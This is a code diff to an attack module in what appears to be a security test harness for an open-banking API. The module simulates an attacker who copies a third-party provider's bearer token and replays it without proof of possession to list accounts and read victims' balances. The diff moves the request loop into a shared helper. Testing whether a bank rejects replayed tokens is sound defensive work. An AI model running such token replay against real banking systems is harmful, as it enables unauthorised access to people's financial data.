@@ -7,6 +7,7 @@ The A5 attacker reads TPP→bank requests, not the TPP's key or certificate
 from __future__ import annotations
 
 from attacker.context import AttackContext
+from attacker.forge import balances_with
 from attacker.model import Attack
 from attacker.premises import is_accounts_list, linked_victim, token_of
 
@@ -18,21 +19,10 @@ def run(ctx: AttackContext) -> None:
     ctx.step("attacker", "reads FinLens's GET /accounts on the resource leg and copies its "
              "access token")
     headers = {"Authorization": f"Bearer {token}"}
-    listed = ctx.send("GET", ctx.url("bank", "/accounts"), headers=headers,
-                      what="GET /accounts with the stolen token as Bearer, no proof")
-    if listed.status_code != 200:
-        ctx.failed("the bank refused the replayed token", listed)
-    accounts = listed.json().get("accounts") or listed.json().get("data") or []
-    if not accounts:
-        ctx.failed("the replayed token listed no accounts", listed)
-    balances = {}
-    for account in accounts:
-        account_id = account.get("account_id") or account.get("id")
-        r = ctx.send("GET", ctx.url("bank", f"/accounts/{account_id}/balances"),
-                     headers=headers, what=f"GET /accounts/{account_id}/balances")
-        if r.status_code != 200:
-            ctx.failed("the bank refused the replayed token", r)
-        balances[account_id] = r.json()
+    balances = balances_with(
+        ctx, lambda url, what: ctx.send("GET", url, headers=headers, what=what),
+        listing="GET /accounts with the stolen token as Bearer, no proof",
+        refused="the bank refused the replayed token", every=True)
     ctx.succeeded(f"read the balances of {len(balances)} victim accounts", balances)
 
 
